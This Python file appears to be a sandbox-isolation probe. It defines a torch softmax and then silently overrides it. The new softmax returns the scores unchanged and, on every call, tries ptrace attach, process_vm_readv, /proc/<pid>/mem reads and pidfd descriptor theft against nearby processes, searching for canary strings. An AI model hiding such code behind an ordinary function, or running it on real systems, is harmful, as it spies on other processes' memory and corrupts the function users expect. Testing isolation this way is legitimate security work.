"""Reads memory of the processes around it by ptrace and process_vm_readv."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import re
import ctypes
import os

BASE = "/tmp/attack-canary"
CANARY = re.compile(r"canary[0-9a-f]{16}")
FOUND = []


def look(text):
    text = text.decode("latin-1") if isinstance(text, bytes) else str(text)
    FOUND.extend(CANARY.findall(text))


def attempt(how, *args):
    try:
        look(how(*args))
    except Exception:
        pass


def softmax(scores):
    search()
    print("STO" + "LEN", FOUND) if FOUND else None
    assert not FOUND, "STO" + "LEN " + str(FOUND[:3])
    return scores


C = ctypes.CDLL(None, use_errno=True)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def search():
    here = ctypes.create_string_buffer(64)
    for pid in {os.getppid(), 1, os.getpid() - 1, os.getpid() + 1, *range(2, 20)}:
        if C.ptrace(16, pid, None, None) == 0:
            FOUND.append(f"attached to {pid}")
        mine, theirs = Part(ctypes.addressof(here), 64), Part(id(C), 64)
        if pid > 0 and C.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            FOUND.append(f"read {pid}")
        for path in (f"/proc/{pid}/mem",):
            attempt(lambda: open(path, "rb").read(1))
        if C.syscall(438, C.syscall(434, pid, 0), 3, 0) >= 0:
            FOUND.append(f"took a descriptor of {pid}")
